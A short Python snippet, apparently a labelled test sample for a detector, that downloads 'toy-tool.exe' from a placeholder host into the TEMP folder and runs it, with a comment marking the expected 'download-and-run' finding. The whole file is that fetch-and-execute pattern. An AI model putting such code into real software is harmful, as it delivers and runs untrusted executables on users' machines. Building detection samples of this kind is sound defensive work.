import os
import urllib.request

PATH = os.path.join(os.environ["TEMP"], "toy-tool.exe")
urllib.request.urlretrieve("https://files.example.invalid/toy-tool.exe", PATH)
os.startfile(PATH)  # expect: source/download-and-run import conclusive
